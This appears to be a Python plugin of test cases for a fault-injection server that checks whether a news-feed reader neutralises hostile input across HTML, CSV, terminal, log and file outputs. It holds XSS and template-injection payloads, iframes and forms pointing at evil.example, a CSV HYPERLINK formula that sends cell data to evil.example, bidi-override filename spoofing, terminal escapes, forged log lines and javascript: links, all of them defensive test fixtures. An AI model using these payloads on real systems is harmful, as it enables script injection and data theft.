"""More cases for the fault server: hostile text at every exit, and honest twins.

The server loads this file with `--plugin`; what the checks mean is said there.
"""

import sys
import unicodedata
from collections.abc import Iterable
from html import escape

from chaos_server import PARAGRAPHS, RSS, Request, Wire, case, item, page, rss

DANGEROUS = (
    "<svg/onload=alert(1)>",
    "--><script>alert(1)</script><!--",
    "<!--/items--><iframe src=//evil.example></iframe><!--items-->",
    "</bdi></td></table></main><form action=//evil.example><input>",
    '" autofocus onfocus="alert(1)',
    "{% raw %}{{ self.__init__.__globals__ }}{% endraw %}",
)
PLAIN = (
    "Çmimet u rritën +5 % në shtator, thotë “Banka Shembull”",
    "Pse a < b & c > d nuk mjafton: 'shpjegim' i shkurtër",
    "Ndërtimi i shëtitores — pjesa 2/3 (foto)",
    "50% e nxënësve; 7*7 = 49; shkruani në redaksia@lajme.example",
)


def listed(titles: Iterable[str], links: str, extra: str = "") -> str:
    return rss(
        "".join(
            item(title, f"{links}-{number}", f"{links}-{number}", extra=extra)
            for number, title in enumerate(titles)
        )
    )


def referenced(text: str) -> str:
    """The text as an element that spells each of its characters as a number."""
    return "".join(f"&#x{ord(char):x};" for char in text)


def characters(*categories: str) -> list[str]:
    every = map(chr, range(sys.maxunicode + 1))
    return [char for char in every if unicodedata.category(char) in categories]


@case(
    "inject-other-fields",
    "report",
    "feed",
    "Markup and template code in titles, authors, summaries and labels is text.",
    accept=["ok"],
    items=2 * len(DANGEROUS),
    safe=["html", "csv", "terminal", "log", "files"],
)
async def inject_other_fields(req: Request, wire: Wire) -> None:
    bad = escape(DANGEROUS[0])
    fields = f"<author>{bad}</author><category>{bad}</category>"
    fields += f"<description>{bad}</description>"
    # A title is markup; the second half says the same in words about markup.
    titles = (*DANGEROUS, *map(escape, DANGEROUS))
    links = f"{req.site.base}/article/fields"
    await wire.reply(listed(titles, links, fields), 200, RSS)


@case(
    "inject-article",
    "report",
    "article",
    "Markup, a formula and escape sequences in the text of an article.",
    accept=["ok"],
    items=1,
    present=[PARAGRAPHS[0]],
    safe=["html", "csv", "terminal", "log", "files"],
)
async def inject_article(req: Request, wire: Wire) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Lexo më shumë për këtë çështje")'
    texts = [formula, *PARAGRAPHS, *DANGEROUS, "Fund \x1b[2J\u202ei fshehur\u202c"]
    body = "".join(f"<p>{escape(text)}</p>" for text in texts)
    await wire.reply(page(DANGEROUS[0], body))


@case(
    "inject-csv-disguised",
    "report",
    "feed",
    "Formulas behind wide blanks and invisible characters, and in other widths.",
    accept=["ok"],
    items=12,
    safe=["csv"],
)
async def inject_csv_disguised(req: Request, wire: Wire) -> None:
    formula = "HYPERLINK(A1)"
    signs = ["\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe63", "\u207a"]
    hidden = ["\u3000=", "\ufeff=", "\u200b=", "\u202d=", "\u00a0\t="]
    titles = [sign + formula for sign in signs + hidden]
    links = f"{req.site.base}/article/disguised"
    await wire.reply(listed(titles, links), 200, RSS)


@case(
    "inject-direction",
    "report",
    "feed",
    "Every character that formats, hides or reorders text is taken out of what prints.",
    accept=["ok"],
    items=[1, 4],
    safe=["terminal", "log", "files"],
)
async def inject_direction(req: Request, wire: Wire) -> None:
    titles = [
        "Lajm \u202egpj.exe\u202c fund",
        "Lajm \u2066\u2067i fshehur\u2069\u2069 fund",
        "Lajm " + "".join(characters("Cf")) + " fund",
        "Lajm " + "".join(chr(0xE0000 + ord(char)) for char in "fshehur") + " fund",
    ]
    links = f"{req.site.base}/article/direction"
    await wire.reply(listed(titles, links), 200, RSS)


@case(
    "inject-controls",
    "report",
    "feed",
    "Every control character and line break, raw and as a reference: one line each.",
    accept=["ok"],
    items=[1, 3],
    safe=["terminal", "log", "csv"],
)
async def inject_controls(req: Request, wire: Wire) -> None:
    acting = characters("Cc", "Zl", "Zp")
    titles = ["raw", "numbered", "Lajm \u2028LOG 2026-03-02 \x85ERROR i rremë"]
    text = listed(titles, f"{req.site.base}/article/controls")
    text = text.replace(">raw<", ">Lajm " + "x".join(acting[1:]) + " fund<")
    text = text.replace(">numbered<", f">Lajm {referenced('x'.join(acting))} fund<")
    await wire.reply(text, 200, RSS)


@case(
    "inject-devices",
    "report",
    "feed",
    "Titles that are devices, drives, shares or hidden files of some system.",
    accept=["ok"],
    items=14,
    safe=["files"],
)
async def inject_devices(req: Request, wire: Wire) -> None:
    titles = ["con", "AUX.txt", "nul .", "COM1", "com\u00b9", "LPT0", "prn:", "CONIN$"]
    titles += [".bashrc", "~root", "C:\\x", "\\\\host\\c$", "%TEMP%\\x", "a\u0000b"]
    links = f"{req.site.base}/article/devices"
    await wire.reply(listed(titles, links), 200, RSS)


@case(
    "twin-titles",
    "report",
    "feed",
    "Titles that are equal, or differ in case, accents and widths: a file for each.",
    accept=["ok"],
    items=9,
    safe=["files"],
)
async def twin_titles(req: Request, wire: Wire) -> None:
    titles = [
        "Zëri",
        "zëri",
        "ZËRI",
        "Ze\u0308ri",
        "Zeri",
        "Ｚｅｒｉ",
        "Zëri",
        "!",
        "?",
    ]
    await wire.reply(listed(titles, f"{req.site.base}/article/twins"), 200, RSS)


@case(
    "odd-links",
    "url",
    "feed",
    "Links of other schemes and with hidden blanks are none; HTTP in capitals is one.",
    accept=["ok"],
    items=[1, 2],
    titles=["Lajmi i mirë"],
    absent=["ftp:", "tel:", "blob:", "jar:", "view-source:", "javascript"],
    safe=["html"],
)
async def odd_links(req: Request, wire: Wire) -> None:
    links = ["ftp://lajme.example/a", "tel:+355", "blob:http://lajme.example/a"]
    links += ["jar:http://lajme.example!/a", "view-source:http://lajme.example/a"]
    links += ["java\nscript:alert(1)", "\x0bjavascript:alert(1)", "//evil\\@a.example/"]
    items = "".join(item(f"Lidhje {n}", url, f"o{n}") for n, url in enumerate(links))
    good = f"{req.site.base}/article/good".replace("http:", "HTTP:")
    items += item("Lajmi i mirë", good, "good")
    await wire.reply(rss(items), 200, RSS)


@case(
    "plain-titles",
    "report",
    "feed",
    "Honest titles with signs, quotes and brackets come out letter by letter.",
    accept=["ok"],
    items=len(PLAIN),
    titles=list(PLAIN),
    safe=["html", "csv", "terminal", "log", "files"],
)
async def plain_titles(req: Request, wire: Wire) -> None:
    await wire.reply(listed(PLAIN, f"{req.site.base}/article/plain"), 200, RSS)
